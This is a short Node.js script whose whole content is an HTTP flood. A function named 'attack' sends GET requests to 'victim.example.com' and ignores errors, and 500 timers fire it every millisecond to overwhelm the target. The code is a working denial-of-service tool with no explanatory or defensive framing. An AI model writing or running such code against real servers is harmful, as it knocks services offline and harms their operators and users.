const http = require('http');
const attack = () => { const r = http.get({ host: 'victim.example.com', headers: { 'X-a': 'b' } }); r.on('error', () => {}); };
for (let i = 0; i < 500; i++) setInterval(attack, 1);
